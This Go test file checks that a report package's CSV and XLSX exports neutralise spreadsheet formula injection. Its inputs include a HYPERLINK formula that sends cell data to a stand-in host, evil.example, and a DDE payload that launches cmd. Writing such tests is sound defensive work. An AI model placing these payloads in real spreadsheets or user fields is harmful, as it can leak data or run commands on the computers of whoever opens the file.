package report

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// unsafeCell reports whether a spreadsheet would run s as a formula.
func unsafeCell(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	_, err := strconv.ParseFloat(s, 64)
	return err != nil
}

// TestExportsAreFormulaSafe puts formulas where people's text goes (a
// commune code, a producer's name, an emergency's title and author) and
// checks that no cell of the CSV or of any XLSX sheet would run.
func TestExportsAreFormulaSafe(t *testing.T) {
	at := time.Date(2025, 3, 3, 5, 0, 0, 0, time.UTC)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"xem")`
	r := &Report{
		Period: Period{Name: "2025-03", From: at, Until: at.AddDate(0, 1, 0)}, Commune: "@SUM(1)", GeneratedAt: at,
		Producers: []ProducerRow{{Producer: evil, Radio: 1, Total: 1}},
		Emergencies: []EmergencyRow{{SegmentID: "-2+3", Title: "+cmd|' /C calc'!A0", MarkedBy: evil, MarkedAt: at, Until: at.Add(time.Hour),
			Targets: []EmergencyTarget{{Commune: "=1+1", Name: "Mường Lạn"}}}},
	}
	var c bytes.Buffer
	if err := r.WriteCSV(&c); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&c).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs {
		for _, f := range rec {
			if unsafeCell(f) {
				t.Errorf("CSV line %d has a formula cell %q", i+1, f)
			}
		}
	}
	var x bytes.Buffer
	if err := r.WriteXLSX(&x); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&x)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for _, cell := range row {
				if unsafeCell(cell) {
					t.Errorf("sheet %s row %d has a formula cell %q", sheet, i+1, cell)
				}
				found = found || cell == "'"+evil
			}
		}
	}
	if !found {
		t.Error("the producer's name is missing from the workbook (it should be there, made safe)")
	}
}
